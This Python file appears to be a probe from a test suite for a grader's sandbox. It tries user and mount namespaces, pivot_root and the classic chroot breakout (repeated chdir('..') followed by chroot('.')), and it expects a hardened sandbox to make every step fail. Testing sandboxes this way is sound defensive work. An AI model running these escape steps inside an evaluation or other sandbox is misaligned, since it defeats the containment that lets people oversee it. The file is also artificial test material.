"""66c: make another folder the root, and climb out of a root that was changed.

A naive grader uses chroot() as a wall; whoever may call it again walks through.
expect: knock error | failed
hole: system_calls
hole: user_namespace
"""

import ctypes
import os
import platform

LIBC = ctypes.CDLL(None, use_errno=True)
LIBC.syscall.restype = ctypes.c_long


def syscall(number, *arguments):
    if platform.machine() != "x86_64":
        raise OSError("these are the numbers of another machine")
    result = LIBC.syscall(number, *[ctypes.c_long(a) if isinstance(a, int) else a for a in arguments])
    if result < 0:
        raise OSError(ctypes.get_errno(), f"system call {number}")
    return result


def knock():
    try:
        syscall(272, 0x10000000)  # a user of its own, who has the rights of root there
    except OSError as error:
        print("user", error)
    try:
        syscall(272, 0x00020000)  # a set of mounts of its own, so that nothing shows outside
        syscall(165, b"none", b"/", None, 0x44000, None)
        os.mkdir("new")
        syscall(165, b"none", b"new", b"tmpfs", 0, None)
        os.mkdir("new/old")
        syscall(155, b"new", b"new/old")
        print("HOLE pivot_root")
    except OSError as error:
        print("pivot_root", error)
    os.mkdir("prison")
    os.chroot("prison")  # the working folder stays outside of it
    print("HOLE chroot")
    for _ in range(20):
        os.chdir("..")
    os.chroot(".")
    return "no"
